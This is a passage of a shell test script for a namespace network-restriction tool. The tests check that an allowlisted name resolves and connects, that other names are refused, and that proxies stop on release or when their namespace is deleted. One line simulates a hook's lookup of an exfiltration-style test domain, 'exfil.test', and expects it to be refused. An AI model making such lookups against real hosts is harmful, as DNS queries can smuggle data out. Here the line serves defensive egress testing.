assert_eq "NOERROR $LAN4" "$(q "$LAN4" api.example.test A)" "the allowed name resolves"
assert_eq ok "$(conn "$LAN4" "$PORT")" "its address opens on its port"
assert_eq REFUSED "$(q "$LAN4" "hook-$$.exfil.test" A)" "another name is REFUSED"
expect_exit 0 nsg release --netns "$CTR_NS" --json
assert_eq "" "$(proxy_pid)" "release stopped it"
kill "$RPID" 2>/dev/null

section "a namespace that dies takes its proxy with it"
lab_extra_ns "$P" gone
expect_exit 0 nsg restrict --netns "/run/netns/${P}_gone" --allow "api.example.test tcp/$PORT" --no-probe --json
GPID=$(jq -r .names.proxy_pid <<<"$OUT")
assert_true "its proxy runs" test -d "/proc/$GPID"
ip netns del "${P}_gone"
assert_true "the proxy exits once the namespace is gone" eventually test ! -d "/proc/$GPID"

finish
